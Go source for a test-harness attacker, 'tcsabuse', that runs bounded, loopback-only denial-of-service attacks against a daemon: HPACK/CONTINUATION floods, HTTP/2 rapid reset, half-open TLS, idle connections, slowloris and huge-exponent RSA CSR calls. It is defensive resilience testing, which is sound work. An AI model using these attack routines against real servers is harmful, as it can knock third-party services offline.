// Command tcsabuse is the attacker of tests/abuse: each subcommand is one of
// the attacks of issue 10, bounded in count and time, aimed at a loopback
// address, and prints one JSON summary line of what it managed to do. It
// never judges the daemon; tests/abuse/run.sh does, from the legitimate
// client's results and the daemon's RSS and log.
//
//	connect     many plain TCP connects, held, then closed
//	hpack       HEADERS whose HPACK integer never ends, fed by CONTINUATION
//	rapidreset  HEADERS then RST_STREAM in a loop
//	halfopen    TCP connections that send half a TLS ClientHello and wait
//	idle        complete TLS + HTTP/2 handshakes, then silence
//	slowloris   HTTP requests that never finish, one header line at a time
//	bigexp      Certificate calls with the token and a huge-exponent RSA CSR
//	csr         write the huge-exponent CSR (for inspection)
package main

import (
	"encoding/json"
	"flag"
	"fmt"
	"net"
	"os"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
)

type summary map[string]any

func emit(s summary) {
	b, _ := json.Marshal(s)
	fmt.Println(string(b))
}

func main() {
	if len(os.Args) < 2 {
		fmt.Fprintln(os.Stderr, "usage: tcsabuse connect|hpack|rapidreset|halfopen|idle|slowloris|bigexp|csr [flags]")
		os.Exit(2)
	}
	cmds := map[string]func([]string) error{
		"connect": runConnect, "hpack": runHPACK, "rapidreset": runRapidReset,
		"halfopen": runHalfOpen, "idle": runIdle, "slowloris": runSlowloris,
		"bigexp": runBigExp, "csr": runCSR,
	}
	name := os.Args[1]
	fn, ok := cmds[name]
	if !ok {
		fmt.Fprintf(os.Stderr, "tcsabuse: unknown subcommand %q\n", os.Args[1])
		os.Exit(2)
	}
	args, err := sourceFlags(os.Args[2:])
	if err != nil {
		fmt.Fprintf(os.Stderr, "tcsabuse %s: %v\n", name, err)
		os.Exit(2)
	}
	if err := fn(args); err != nil {
		fmt.Fprintf(os.Stderr, "tcsabuse %s: %v\n", os.Args[1], err)
		os.Exit(1)
	}
}

// loopbackOnly refuses any target that is not a loopback address.
func loopbackOnly(addr string) error {
	host, _, err := net.SplitHostPort(addr)
	if err != nil {
		return err
	}
	if ip := net.ParseIP(host); ip == nil || !ip.IsLoopback() {
		return fmt.Errorf("%s: only loopback targets are allowed", addr)
	}
	return nil
}

// hold opens up to `count` connections with `open` (at most `par` at a
// time), keeps them for `hold`, then closes them. Returns how many opened.
func hold(count, par int, holdFor time.Duration, open func() (net.Conn, error)) (int64, int64, map[string]int) {
	var (
		mu     sync.Mutex
		conns  []net.Conn
		errs   = map[string]int{}
		opened atomic.Int64
		failed atomic.Int64
		wg     sync.WaitGroup
		next   atomic.Int64
	)
	for w := 0; w < par; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for next.Add(1) <= int64(count) {
				c, err := open()
				if err != nil {
					failed.Add(1)
					msg := err.Error()
					if i := strings.LastIndex(msg, ": "); i >= 0 {
						msg = msg[i+2:]
					}
					mu.Lock()
					errs[msg]++
					mu.Unlock()
					continue
				}
				opened.Add(1)
				mu.Lock()
				conns = append(conns, c)
				mu.Unlock()
			}
		}()
	}
	wg.Wait()
	time.Sleep(holdFor)
	for _, c := range conns {
		c.Close() //nolint:errcheck
	}
	return opened.Load(), failed.Load(), errs
}

func runConnect(args []string) error {
	fs := flag.NewFlagSet("connect", flag.ContinueOnError)
	addr := fs.String("addr", "", "target host:port")
	count := fs.Int("count", 1100, "connections")
	holdFor := fs.Duration("hold", 2*time.Second, "how long to keep them open")
	if err := fs.Parse(args); err != nil {
		return err
	}
	if err := loopbackOnly(*addr); err != nil {
		return err
	}
	t0 := time.Now()
	opened, failed, errs := hold(*count, 200, *holdFor, func() (net.Conn, error) {
		return dialer(3*time.Second).Dial("tcp", *addr)
	})
	emit(summary{"attack": "connect", "opened": opened, "failed": failed, "errors": errs,
		"seconds": time.Since(t0).Seconds()})
	return nil
}

func runHalfOpen(args []string) error {
	fs := flag.NewFlagSet("halfopen", flag.ContinueOnError)
	addr := fs.String("addr", "", "target host:port")
	count := fs.Int("count", 10000, "connections")
	holdFor := fs.Duration("hold", 10*time.Second, "how long to keep them open")
	if err := fs.Parse(args); err != nil {
		return err
	}
	if err := loopbackOnly(*addr); err != nil {
		return err
	}
	// A TLS record header announcing 512 bytes of ClientHello, then 4 of them.
	partial := []byte{0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xfc}
	t0 := time.Now()
	opened, failed, errs := hold(*count, 200, *holdFor, func() (net.Conn, error) {
		c, err := dialer(3*time.Second).Dial("tcp", *addr)
		if err != nil {
			return nil, err
		}
		if _, err := c.Write(partial); err != nil {
			c.Close() //nolint:errcheck
			return nil, err
		}
		return c, nil
	})
	emit(summary{"attack": "halfopen", "opened": opened, "failed": failed, "errors": errs,
		"seconds": time.Since(t0).Seconds()})
	return nil
}

func runIdle(args []string) error {
	fs := flag.NewFlagSet("idle", flag.ContinueOnError)
	addr := fs.String("addr", "", "target host:port")
	count := fs.Int("count", 5000, "connections")
	holdFor := fs.Duration("hold", 10*time.Second, "how long to keep them open")
	if err := fs.Parse(args); err != nil {
		return err
	}
	if err := loopbackOnly(*addr); err != nil {
		return err
	}
	t0 := time.Now()
	opened, failed, errs := hold(*count, 16, *holdFor, func() (net.Conn, error) {
		h, err := dialH2(*addr, 5*time.Second)
		if err != nil {
			return nil, err
		}
		return h.c, nil
	})
	emit(summary{"attack": "idle", "opened": opened, "failed": failed, "errors": errs,
		"seconds": time.Since(t0).Seconds()})
	return nil
}

// runHPACK: per connection, one HEADERS frame without END_HEADERS whose
// block starts a literal header field with a name-length integer (7-bit
// prefix all ones) that continues byte after byte through CONTINUATION
// frames, for as long as the attack lasts. The continuation bytes are 0x80
// ("more follows", no value bits), so the integer never overflows: a parser
// must bound the header block, not the integer, to stop it.
func runHPACK(args []string) error {
	fs := flag.NewFlagSet("hpack", flag.ContinueOnError)
	addr := fs.String("addr", "", "target host:port")
	conns := fs.Int("conns", 4, "connections")
	duration := fs.Duration("duration", 15*time.Second, "how long")
	if err := fs.Parse(args); err != nil {
		return err
	}
	if err := loopbackOnly(*addr); err != nil {
		return err
	}
	more := make([]byte, 16384)
	for i := range more {
		more[i] = 0x80
	}
	var frames, dials, dialErrs atomic.Int64
	end := time.Now().Add(*duration)
	var wg sync.WaitGroup
	for i := 0; i < *conns; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for time.Now().Before(end) {
				h, err := dialH2(*addr, 5*time.Second)
				dials.Add(1)
				if err != nil {
					dialErrs.Add(1)
					time.Sleep(100 * time.Millisecond)
					continue
				}
				h.c.SetWriteDeadline(end) //nolint:errcheck
				err = h.write(func() error {
					return h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1,
						BlockFragment: append([]byte{0x00, 0x7f}, more[:1024]...)})
				})
				for err == nil && time.Now().Before(end) {
					err = h.write(func() error { return h.fr.WriteContinuation(1, false, more) })
					frames.Add(1)
				}
				h.Close()
			}
		}()
	}
	wg.Wait()
	emit(summary{"attack": "hpack", "continuation_frames": frames.Load(), "dials": dials.Load(),
		"dial_errors": dialErrs.Load()})
	return nil
}

func runRapidReset(args []string) error {
	fs := flag.NewFlagSet("rapidreset", flag.ContinueOnError)
	addr := fs.String("addr", "", "target host:port")
	conns := fs.Int("conns", 4, "connections")
	duration := fs.Duration("duration", 15*time.Second, "how long")
	maxResets := fs.Int64("max", 150000, "stop after this many reset streams in all")
	if err := fs.Parse(args); err != nil {
		return err
	}
	if err := loopbackOnly(*addr); err != nil {
		return err
	}
	var resets, dials, dialErrs atomic.Int64
	end := time.Now().Add(*duration)
	var wg sync.WaitGroup
	for i := 0; i < *conns; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for time.Now().Before(end) && resets.Load() < *maxResets {
				h, err := dialH2(*addr, 5*time.Second)
				dials.Add(1)
				if err != nil {
					dialErrs.Add(1)
					time.Sleep(100 * time.Millisecond)
					continue
				}
				h.c.SetWriteDeadline(end) //nolint:errcheck
				var err2 error
				for id := uint32(1); err2 == nil && id < 1<<31-1 && time.Now().Before(end) &&
					resets.Load() < *maxResets; id += 2 {
					err2 = h.write(func() error {
						if err := h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id,
							BlockFragment: h.headerBlock(grpcHeaders(*addr, "")), EndHeaders: true}); err != nil {
							return err
						}
						return h.fr.WriteRSTStream(id, http2.ErrCodeCancel)
					})
					if err2 == nil {
						resets.Add(1)
					}
				}
				h.Close()
			}
		}()
	}
	wg.Wait()
	emit(summary{"attack": "rapidreset", "resets": resets.Load(), "dials": dials.Load(),
		"dial_errors": dialErrs.Load()})
	return nil
}

func runSlowloris(args []string) error {
	fs := flag.NewFlagSet("slowloris", flag.ContinueOnError)
	addr := fs.String("addr", "", "target host:port (the HTTP port)")
	conns := fs.Int("conns", 70, "connections")
	duration := fs.Duration("duration", 12*time.Second, "how long")
	every := fs.Duration("every", time.Second, "one header line this often")
	if err := fs.Parse(args); err != nil {
		return err
	}
	if err := loopbackOnly(*addr); err != nil {
		return err
	}
	d := dialer(3 * time.Second)
	var opened, dropped atomic.Int64
	end := time.Now().Add(*duration)
	var wg sync.WaitGroup
	for i := 0; i < *conns; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			c, err := d.Dial("tcp", *addr)
			if err != nil {
				return
			}
			defer c.Close() //nolint:errcheck
			opened.Add(1)
			if _, err := fmt.Fprintf(c, "GET /healthz HTTP/1.1\r\nHost: x\r\n"); err != nil {
				dropped.Add(1)
				return
			}
			for n := 0; time.Now().Before(end); n++ {
				time.Sleep(*every)
				if _, err := fmt.Fprintf(c, "X-%d-%d: a\r\n", i, n); err != nil {
					dropped.Add(1)
					return
				}
			}
		}(i)
	}
	wg.Wait()
	emit(summary{"attack": "slowloris", "opened": opened.Load(), "dropped_by_server": dropped.Load()})
	return nil
}

func runCSR(args []string) error {
	fs := flag.NewFlagSet("csr", flag.ContinueOnError)
	bits := fs.Int("bits", 3072, "modulus size")
	ebits := fs.Int("ebits", 3064, "public exponent size")
	out := fs.String("out", "", "write the PEM here (default stdout)")
	if err := fs.Parse(args); err != nil {
		return err
	}
	pemBytes, err := bigExponentCSR(*bits, *ebits, "abuse")
	if err != nil {
		return err
	}
	if *out == "" {
		_, err = os.Stdout.Write(pemBytes)
		return err
	}
	return os.WriteFile(*out, pemBytes, 0o644)
}

func runBigExp(args []string) error {
	fs := flag.NewFlagSet("bigexp", flag.ContinueOnError)
	addr := fs.String("addr", "", "target host:port")
	tokenFile := fs.String("token-file", "", "machine token")
	conns := fs.Int("conns", 4, "connections")
	streams := fs.Int("streams", 16, "calls in flight on each connection, each back to back")
	duration := fs.Duration("duration", 15*time.Second, "how long")
	if err := fs.Parse(args); err != nil {
		return err
	}
	if err := loopbackOnly(*addr); err != nil {
		return err
	}
	tok, err := os.ReadFile(*tokenFile)
	if err != nil {
		return err
	}
	token := strings.TrimSpace(string(tok))
	csr, err := bigExponentCSR(3072, 3064, "abuse")
	if err != nil {
		return err
	}
	body := certificateMessage(csr)
	var (
		calls atomic.Int64
		mu    sync.Mutex
		stats = map[string]int{}
		wg    sync.WaitGroup
	)
	end := time.Now().Add(*duration)
	for i := 0; i < *conns; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for time.Now().Before(end) {
				h, err := dialH2(*addr, 5*time.Second)
				if err != nil {
					time.Sleep(100 * time.Millisecond)
					continue
				}
				var sw sync.WaitGroup
				for s := 0; s < *streams; s++ {
					sw.Add(1)
					go func() {
						defer sw.Done()
						for time.Now().Before(end) {
							st, err := h.call(grpcHeaders(*addr, token), body, 10*time.Second)
							if err != nil {
								return
							}
							calls.Add(1)
							mu.Lock()
							stats["grpc-status "+st]++
							mu.Unlock()
						}
					}()
				}
				sw.Wait()
				h.Close()
			}
		}()
	}
	wg.Wait()
	emit(summary{"attack": "bigexp", "calls": calls.Load(), "statuses": stats})
	return nil
}
